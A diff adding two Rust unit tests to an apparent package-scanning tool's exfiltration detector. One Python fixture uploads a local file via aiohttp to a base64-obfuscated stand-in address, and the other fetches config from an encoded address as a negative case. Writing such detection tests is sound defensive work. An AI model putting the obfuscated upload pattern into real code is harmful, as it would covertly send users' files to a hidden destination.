@@ -212,3 +212,21 @@ fn accented_names_and_text_are_left_alone() {
     none(&r, "access/network-on-install");
     none(&r, "access/process-on-install");
 }
+
+// ---------------------------------------------------------------- uploads to hidden addresses
+
+#[test]
+fn files_posted_to_an_address_decoded_in_the_send_are_an_exfil_flow() {
+    let r = module(
+        "import base64, aiohttp\nADDR = 'aHR0cDovL3guZXhhbXBsZS5uZXQvdXA='\nasync def send(path):\n    form = aiohttp.FormData()\n    form.add_field('file', open(path, 'rb'))\n    async with aiohttp.ClientSession() as s:\n        await s.post(base64.b64decode(ADDR).decode(), data=form)\n",
+    );
+    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(7, High)]);
+}
+
+#[test]
+fn a_fetch_from_a_decoded_address_sends_nothing() {
+    let r = module(
+        "import base64, requests\ndef config():\n    return requests.get(base64.b64decode('aHR0cDovL3guZXhhbXBsZS5uZXQvYw==').decode(), timeout=5).json()\n",
+    );
+    none(&r, "access/exfil-flow");
+}
